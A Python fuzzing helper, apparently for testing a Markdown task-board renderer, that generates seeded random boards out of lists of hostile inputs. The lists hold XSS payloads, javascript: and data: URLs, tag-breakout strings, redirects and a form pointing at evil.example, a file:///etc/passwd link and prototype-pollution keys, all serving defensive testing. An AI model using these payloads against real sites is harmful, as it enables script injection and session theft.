"""Boards that want to be more than text on a page, random but for their seed."""
import random

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext></p><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</span></li></ol></section></main><h1>mine</h1>", "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href='javascript:alert(1)'>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=a></form>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">", "<template><script>1</script></template>",
    "<details open ontoggle=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>",
    "`onclick=alert(1)`", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot; onclick=&quot;x", "\\\"><b>", "<\x00script>",
    "<scr\x00ipt>", "<script\x0c>", "\u2028<script>", "＜script＞", "\x1b[2J", "\u202etpircs", "\ufeff<b>", "]]>", "-->", "*/", "${alert(1)}",
    "{{7*7}}", "::error::x", "##[group]x", "<plaintext>", "<xmp>", "<textarea>", "<select><option>", "<body onload=alert(1)>", "<html lang=x>",
]
URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "\x01javascript:alert(1)", "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "//evil.example", "/\\evil.example", "https://evil.example/\"onclick=\"alert(1)", "https://e.example/<script>",
    "https://e.example/'x='", "http://e.example/`x`", "mailto:a@b.example?subject=\"><script>", "https://user:pw@e.example/#k7f2",
    "https:javascript:alert(1)", "http:alert(1)", "blob:https://e.example/1", "ws://e.example", "about:blank", "#k7f2", "x.md", "?x=1",
    "https://e.example/ü/한글", "https://e.example/%22%3E%3Cscript%3E", "view-source:https://e.example", "intent://x#Intent;end",
]
WORDS = ["Pay", "the", "rent", "@ana", "@<b>", "#tag", "#\"x\"", "문서", "كتابة", "🚀", "`code`", "**bold**", "*em*", "~~x~~", "[[wiki]]", "<", ">",
         "&", "\"", "'", "`", "\\", "[", "]", "(", ")", "![", "](", "<!--", "--", "http://", "https://e.example/a_b", "www.e.example"]
IDS = ["k7f2", "K7F2", "a-b", "_0-0", "x\"onclick=1", "<b>", "constructor", "__proto__", "a" * 32, "a" * 33, "-a", "한글", "k7f2"]
DATES = ["2026-11-20", "2026-11-21", "2026-11-22T09:00", "2026-12-01T10:00Z", "2026-02-30", "<script>", "\"x", "tomorrow"]
PRIORITIES = ["high", "medium", "low", "<b>", "\"onclick=1"]


class Hostile:
    def __init__(self, seed):
        self.random = random.Random(seed)

    def words(self, most=6):
        pick = self.random
        words = []
        for _ in range(pick.randint(0, most)):
            kind = pick.random()
            if kind < 0.4:
                words.append(pick.choice(WORDS))
            elif kind < 0.7:
                words.append(pick.choice(MARKUP))
            elif kind < 0.8:
                words.append(f"[{pick.choice(WORDS)}]({pick.choice(URLS)})")
            elif kind < 0.85:
                words.append(f"![{pick.choice(MARKUP)}](<{pick.choice(URLS)}> \"{pick.choice(MARKUP)}\")")
            elif kind < 0.9:
                words.append(f"<{pick.choice(URLS)}>")
            elif kind < 0.95:
                words.append(pick.choice(URLS))
            else:
                words.append("".join(chr(pick.choice((pick.randint(0, 127), pick.randint(128, 0x2fff)))) for _ in range(8))
                             .replace("\n", " ").replace("\r", " "))
        return " ".join(words)

    def attributes(self):
        pick = self.random
        found = []
        for key, values in (("id", IDS), ("due", DATES), ("pri", PRIORITIES), ("needs", IDS), ("done", DATES), ("est", ["2h", "<b>"])):
            if pick.random() < 0.3:
                found.append(f"{key}:{pick.choice(values)}")
        return " ".join(found)

    def body(self):
        pick = self.random
        lines = []
        for _ in range(pick.randint(0, 6)):
            start = pick.choice(["", "", "- ", "- [ ] ", "- [x] ", "- [-] ", "> ", "# ", "1. ", "```", "    ", "<div>", "---", "<!-- "])
            lines.append("  " + start + self.words())
        return "".join(line + "\n" for line in lines)

    def board(self):
        pick = self.random
        text = ""
        if pick.random() < 0.3:
            text += f"---\ncolumns: [Todo, {pick.choice(['Doing', '<b>x</b>'])}, Done]\nwip: {{Todo: 1}}\n---\n\n"
        if pick.random() < 0.7:
            text += f"# {self.words()}\n\n"
        for column in ("Todo", "Doing", "Done"):
            text += f"## {column}\n\n"
            for _ in range(pick.randint(0, 5)):
                if pick.random() < 0.15:
                    text += f"### {self.words()}\n\n"
                text += f"- {pick.choice(['[ ] ', '[x] ', '[-] ', ''])}{self.words()} {self.attributes()}\n{self.body()}"
            text += "\n"
        return text.encode(errors="replace") + bytes(pick.randint(0, 255) for _ in range(pick.choice([0, 0, 3])))
